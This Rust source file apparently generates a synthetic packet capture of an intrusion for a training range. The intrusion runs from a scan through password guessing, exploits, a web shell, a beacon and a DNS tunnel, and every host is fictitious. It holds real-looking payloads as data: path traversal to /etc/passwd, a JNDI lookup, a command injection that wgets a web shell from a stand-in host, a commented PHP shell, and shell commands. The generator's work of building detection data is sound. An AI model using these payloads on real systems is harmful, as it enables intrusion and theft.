//! The first intrusion: from a scan to a beacon, all of it harmless bytes between made-up hosts.
//!
//! ```text
//!  intruder 203.0.113.66 ──scan, guesses, exploits, web shell──▶ portal 10.20.1.10
//!  portal ──fetches the web shell──▶ 198.51.100.80      portal ──tunnel──▶ resolver 10.20.1.53
//!  portal ──beacon──▶ 192.0.2.200 (api.dong-bo-cdn.example)
//! ```
//! Steps begin at fixed shares of the capture, so that short captures hold all of them. Counts do not depend on the
//! duration, and intervals never exceed what the shipped correlations look back on.

use crate::benign::portal::{log_in, login_accepted, login_refused};
use crate::der::KeyKind;
use crate::dns::{Answer, Data, Lookup, RecordType, look_up};
use crate::http::{Request, Response, exchange};
use crate::packet::Station;
use crate::random::Random;
use crate::stage::{Call, Stage};
use crate::tcp::{Connection, Side, Stack};
use crate::tls::{IMPLANT, Service, Session};
use crate::world::{NET_3, Server, outside_v4};

const SCAN: &str = "scan";
const GUESSING: &str = "password-guessing";
const EXPLOIT: &str = "exploit";
const DROP: &str = "webshell-drop";
const USE: &str = "webshell-use";
const TUNNEL: &str = "dns-tunnel";
const BEACON: &str = "beacon";

/// What a step is, for the truth.
pub(crate) struct StepCard {
    pub(crate) id: &'static str,
    pub(crate) name: &'static str,
    pub(crate) technique: &'static str,
    pub(crate) tactic: &'static str,
}

const fn card(
    id: &'static str,
    name: &'static str,
    technique: &'static str,
    tactic: &'static str,
) -> StepCard {
    StepCard {
        id,
        name,
        technique,
        tactic,
    }
}

/// Every step, in order.
pub(crate) const STEPS: [StepCard; 7] = [
    card(
        SCAN,
        "Scan of the server segment, then of the portal's ports",
        "T1046",
        "discovery",
    ),
    card(
        GUESSING,
        "Guessing the portal administrator's password",
        "T1110.001",
        "credential-access",
    ),
    card(
        EXPLOIT,
        "Path traversal, JNDI lookup and command injection against the portal",
        "T1190",
        "initial-access",
    ),
    card(
        DROP,
        "The portal fetches a web shell",
        "T1105",
        "command-and-control",
    ),
    card(USE, "Commands through the web shell", "T1505.003", "persistence"),
    card(
        BEACON,
        "Beacon from the portal over HTTP and TLS",
        "T1071.001",
        "command-and-control",
    ),
    card(
        TUNNEL,
        "Data leave through a DNS tunnel",
        "T1071.004",
        "command-and-control",
    ),
];

/// Passwords tried before one fits.
const GUESSES: usize = 40;

/// Queries of the tunnel.
const TUNNEL_QUERIES: i64 = 150;

/// Ports looked at on every host, and how many more on the portal.
const SWEPT_PORTS: [u16; 4] = [22, 80, 443, 445];
const SWEPT_HOSTS: u8 = 60;
const PORTAL_PORTS: std::ops::Range<u16> = 20..220;

const CONTROL_HOST: &str = "api.dong-bo-cdn.example";
const TUNNEL_ZONE: &str = "t.dong-bo-cdn.example";
const IMPLANT_AGENT: &str = "Mozilla/5.0 (compatible; DongBo/3.1)";
const INTRUDER_AGENT: &str = "python-requests/2.32.3";

/// A PHP web shell to the eye of a scanner; all of it is comment, so that it does nothing even where PHP runs it.
const WEB_SHELL: &str = "<?php\n\
    /* vonggac-range-webshell: mau dien tap, khong co tac dung.\n\
     * $lenh = $_REQUEST['cmd'];\n\
     * if (isset($lenh)) { echo '<pre>'; system($lenh); echo '</pre>'; }\n\
     * @eval(base64_decode($_POST['z0']));\n\
     */\n";

fn intruder() -> Station {
    outside_v4(NET_3, 66)
}

fn staging() -> Station {
    outside_v4([198, 51, 100], 80)
}

fn control() -> Station {
    outside_v4([192, 0, 2], 200)
}

/// Plays every step.
pub(crate) fn play(stage: &mut Stage) {
    let duration_us = stage.end_us() - stage.start_us();
    let at = |share: i64| stage.start_us() + duration_us * share / 1000;
    let (scan_us, guess_us, exploit_us, drop_us) = (at(60), at(170), at(340), at(365));
    let (use_us, beacon_us, tunnel_us) = (at(380), at(400), at(500));
    scan(stage, scan_us, duration_us * 80 / 1000);
    guess(stage, guess_us, (duration_us * 130 / 1000).min(100_000_000));
    exploit(stage, exploit_us, duration_us * 6 / 1000);
    drop_shell(stage, drop_us);
    use_shell(stage, use_us, duration_us / 1000);
    beacon(stage, beacon_us, (duration_us / 24).min(30_000_000));
    tunnel(stage, tunnel_us, (duration_us * 300 / 1000).min(250_000_000));
}

fn to_portal(step: &'static str, port: u16) -> Call {
    Call {
        client: intruder(),
        server: Server::Portal.station(),
        port,
        stack: Stack::Unix,
        step: Some(step),
    }
}

fn is_open(host: u8, port: u16) -> bool {
    let open: &[(Server, u16)] = &[
        (Server::Portal, 22),
        (Server::Portal, 80),
        (Server::Portal, 443),
        (Server::Documents, 80),
        (Server::Intranet, 80),
        (Server::Mail, 25),
    ];
    open.iter()
        .any(|(server, open_port)| *server as u8 == host && *open_port == port)
}

/// First the same ports on every address, then many ports of the portal; one source port for all, as scanners do.
fn scan(stage: &mut Stage, start_us: i64, span_us: i64) {
    let mut random = stage.random(SCAN, 0);
    let sweep = (1..=SWEPT_HOSTS).flat_map(|host| SWEPT_PORTS.map(|port| (host, port)));
    let portal = Server::Portal as u8;
    let ports = PORTAL_PORTS
        .filter(|port| !SWEPT_PORTS.contains(port))
        .map(|port| (portal, port));
    let targets: Vec<(u8, u16)> = sweep.chain(ports).collect();
    let client_port = 40_000 + random.below(9000) as u16;
    let gap_us = span_us / targets.len() as i64;
    for (index, (host, port)) in targets.into_iter().enumerate() {
        let mut server = Server::Portal.station();
        if let std::net::IpAddr::V4(v4) = server.address {
            let [a, b, c, _] = v4.octets();
            server.address = std::net::Ipv4Addr::new(a, b, c, host).into();
            server.mac[5] = host;
        }
        let call = Call {
            client: intruder(),
            server,
            port,
            stack: Stack::Bare,
            step: Some(SCAN),
        };
        let mut route = stage.route(&call, &mut random);
        route.client_port = client_port;
        let now_us = start_us + index as i64 * gap_us + random.between(0, gap_us / 2);
        let chance = random.fork();
        let alive = Server::ALL.iter().any(|server| *server as u8 == host);
        if !alive {
            Connection::unanswered(&mut stage.timeline, chance, &route, now_us, 0);
        } else if is_open(host, port) {
            Connection::half_open(&mut stage.timeline, chance, &route, now_us);
        } else {
            Connection::refused(&mut stage.timeline, chance, &route, now_us);
        }
    }
}

/// One connection for each password, as guessing tools make them.
fn guess(stage: &mut Stage, start_us: i64, span_us: i64) {
    let mut random = stage.random(GUESSING, 0);
    let gap_us = span_us / (GUESSES as i64 + 1);
    for attempt in 0..=GUESSES {
        let now_us = start_us + attempt as i64 * gap_us + random.between(0, gap_us / 3);
        let mut connection = stage.connect(&to_portal(GUESSING, 80), &mut random, now_us);
        let response = if attempt < GUESSES {
            login_refused()
        } else {
            login_accepted(&mut random)
        };
        let password = format!("matkhau{}{}", random.below(10_000), attempt);
        log_in(&mut connection, INTRUDER_AGENT, "quantri", &password, &response);
        connection.close(Side::Client);
    }
}

fn request_portal(
    stage: &mut Stage,
    step: &'static str,
    request: &Request<'_>,
    answer: &Response,
    start_us: i64,
) {
    let mut random = stage.random(step, start_us as u64);
    let mut connection = stage.connect(&to_portal(step, 80), &mut random, start_us);
    exchange(&mut connection, request, answer);
    connection.close(Side::Client);
}

/// Three ways in are tried; the last one works.
fn exploit(stage: &mut Stage, start_us: i64, gap_us: i64) {
    let host = Server::Portal.name();
    let get = |target| Request::get(&host, target, INTRUDER_AGENT);
    let accounts = "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n";
    let traversal = get("/tra-cuu?tep=../../../../../../etc/passwd");
    request_portal(
        stage,
        EXPLOIT,
        &traversal,
        &Response::new(200, "text/plain", accounts),
        start_us,
    );

    let fields = ["X-Api-Version: ${jndi:ldap://203.0.113.99:1389/TaiLieu}"];
    let lookup = Request {
        fields: &fields,
        ..get("/api/ho-so")
    };
    let nothing = Response::new(404, "text/html", "<h1>404</h1>\n");
    request_portal(stage, EXPLOIT, &lookup, &nothing, start_us + gap_us);

    let target = "/cgi-bin/kiem-tra?may=127.0.0.1;wget+http://198.51.100.80/cong-cu/ho-so.php+-O+/var/www/uploads/ho-so.php";
    let done = Response::new(200, "text/plain", "dang kiem tra...\n");
    request_portal(stage, EXPLOIT, &get(target), &done, start_us + 2 * gap_us);
}

/// The portal does as it was told.
fn drop_shell(stage: &mut Stage, start_us: i64) {
    let mut random = stage.random(DROP, 0);
    let client = Server::Portal.station();
    let call = Call {
        client,
        server: staging(),
        port: 80,
        stack: Stack::Unix,
        step: Some(DROP),
    };
    let mut connection = stage.connect(&call, &mut random, start_us);
    let request = Request::get("198.51.100.80", "/cong-cu/ho-so.php", "Wget/1.21.3");
    exchange(
        &mut connection,
        &request,
        &Response::new(200, "application/octet-stream", WEB_SHELL),
    );
    connection.close(Side::Client);
}

/// Commands, by GET and by POST.
fn use_shell(stage: &mut Stage, start_us: i64, gap_us: i64) {
    let host = Server::Portal.name();
    let said = [
        ("id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
        (
            "uname+-a",
            "Linux motcua 6.1.0-37-amd64 #1 SMP Debian x86_64 GNU/Linux\n",
        ),
        ("ls+-la+/var/www", "drwxr-xr-x 4 www-data www-data 4096 uploads\n"),
    ];
    for (index, (command, answer)) in said.into_iter().enumerate() {
        let target = format!("/uploads/ho-so.php?cmd={command}");
        let request = Request::get(&host, &target, INTRUDER_AGENT);
        request_portal(
            stage,
            USE,
            &request,
            &Response::new(200, "text/html", answer),
            start_us + index as i64 * gap_us,
        );
    }
    let fields = ["Content-Type: application/x-www-form-urlencoded"];
    let request = Request {
        method: "POST",
        fields: &fields,
        body: b"cmd=cat+/etc/passwd+|+base64",
        ..Request::get(&host, "/uploads/ho-so.php", INTRUDER_AGENT)
    };
    let answer = Response::new(200, "text/html", "cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaAo=\n");
    request_portal(stage, USE, &request, &answer, start_us + 3 * gap_us);
}

/// A question of the portal's, as part of a step.
fn portal_asks(
    stage: &mut Stage,
    random: &mut Random,
    question: (&'static str, &str, RecordType),
    answer: &Answer,
    start_us: i64,
) -> i64 {
    let (step, query, kind) = question;
    let (client, resolver) = (Server::Portal.station(), Server::Resolver.station());
    let lookup = Lookup {
        client,
        resolver,
        query,
        kind,
        step: Some(step),
    };
    look_up(
        &mut stage.timeline,
        &mut stage.ports,
        random,
        &lookup,
        answer,
        start_us,
    )
}

/// Reports every `period_us`, a tenth more or less; every third time over TLS too.
fn beacon(stage: &mut Stage, start_us: i64, period_us: i64) {
    let mut random = stage.random(BEACON, 0);
    let identity = random.hex(16);
    let address = Answer::Records(vec![Data::Address(control().address)]);
    let call = |port| Call {
        client: Server::Portal.station(),
        server: control(),
        port,
        stack: Stack::Unix,
        step: Some(BEACON),
    };
    let last_us = stage.end_us() - 1_000_000;
    let mut now_us = start_us;
    let mut turn = 0;
    while now_us < last_us {
        let question = (BEACON, CONTROL_HOST, RecordType::A);
        let ready_us = portal_asks(stage, &mut random, question, &address, now_us);
        let mut connection = stage.connect(&call(80), &mut random, ready_us + 300);
        let target = format!("/api/v3/dong-bo/nhip?ma={identity}&lan={turn}");
        let order = random.bytes(48);
        let response = Response::new(200, "application/octet-stream", order);
        exchange(
            &mut connection,
            &Request::get(CONTROL_HOST, &target, IMPLANT_AGENT),
            &response,
        );
        connection.close(Side::Client);
        if turn % 3 == 0 {
            over_tls(stage, &call(443), &mut random, ready_us + 90_000);
        }
        turn += 1;
        now_us += period_us + random.between(-period_us / 10, period_us / 10);
    }
}

fn over_tls(stage: &mut Stage, call: &Call, random: &mut Random, start_us: i64) {
    let service = Service {
        name: CONTROL_HOST,
        organisation: "Dong Bo CDN",
        key: KeyKind::Rsa,
        only_12: true,
        self_signed: true,
    };
    let day_us = stage.start_us();
    let mut connection = stage.connect(call, random, start_us);
    let mut session = Session::open(&mut connection, &IMPLANT, &service, day_us);
    session.send(Side::Client, 212);
    session.think(2000, 20_000);
    session.send(Side::Server, 96);
    session.close(true);
}

/// A file leaves in the labels of queries; orders come back as text records.
fn tunnel(stage: &mut Stage, start_us: i64, span_us: i64) {
    let mut random = stage.random(TUNNEL, 0);
    let session = random.hex(4);
    let gap_us = span_us / TUNNEL_QUERIES;
    for index in 0..TUNNEL_QUERIES {
        let query = format!(
            "{}.{}.{session}{index:04x}.{TUNNEL_ZONE}",
            random.hex(60),
            random.hex(56)
        );
        let length = random.size(30, 44) * 4;
        let text: String = (0..length).map(|_| random.pick(&ENCODED)).collect();
        let now_us = start_us + index * gap_us + random.between(0, gap_us / 2);
        let answer = Answer::Records(vec![Data::Text(text)]);
        portal_asks(
            stage,
            &mut random,
            (TUNNEL, &query, RecordType::Txt),
            &answer,
            now_us,
        );
    }
}

/// Some of base64's characters.
const ENCODED: [&str; 24] = [
    "A", "C", "E", "G", "K", "Q", "T", "Z", "a", "b", "d", "f", "h", "j", "m", "p", "s", "w", "0", "2", "5",
    "7", "9", "+",
];
